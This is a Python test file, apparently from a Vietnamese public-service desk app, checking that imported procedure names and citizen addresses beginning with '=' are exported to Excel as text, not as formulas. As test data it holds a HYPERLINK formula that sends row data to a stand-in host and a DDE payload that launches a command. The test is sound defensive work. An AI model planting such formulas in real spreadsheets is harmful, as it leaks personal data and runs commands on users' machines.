"""Formula injection (issue 20's bar): text that came from outside (a published list's
procedure name, an address as the citizen gave it) and begins with ``=`` is written to the
desk's Excel exports as text, never as a formula Excel would run (a HYPERLINK that sends
the row's name and address away, a DDE call)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl

from desk_app.domain.calendar import VN_TZ
from desk_app.domain.dossier import ComponentDraft, DossierDraft
from desk_app.services.desk import Desk
from tests.conftest import birth_draft

NAME = '=HYPERLINK("http://x.example/?"&D8&E8,"Xem hướng dẫn")'
ADDRESS = "=cmd|' /C calc'!A0"


def test_text_beginning_with_equals_is_text_in_the_tracking_book(
    desk: Desk, tmp_path: Path
) -> None:
    applicant = birth_draft(desk, address=ADDRESS).applicant
    listed = tmp_path / "danh-muc.csv"
    with listed.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(
            [
                ["Mã thủ tục", "Tên thủ tục", "Lĩnh vực", "Thời hạn giải quyết"],
                ["1.001776", NAME, "Bảo trợ xã hội", "07 ngày làm việc"],
            ]
        )
    desk.catalogue.import_published(listed)
    procedure = desk.catalogue.find("1.001776")
    assert procedure is not None and procedure.name == NAME
    components = [ComponentDraft(c.name, c.copy_kind.value, c.count, c.required, c.key)
                  for c in procedure.components]  # fmt: skip
    record = desk.intake.receive(
        DossierDraft(procedure_code="1.001776", applicant=applicant, components=components)
    ).record
    day = record.received_at.astimezone(VN_TZ).date()
    out = tmp_path / "so.xlsx"
    assert desk.reports.write_book(day, day, out) == 1
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells}
    assert NAME in texts and any(ADDRESS in str(t) for t in texts)
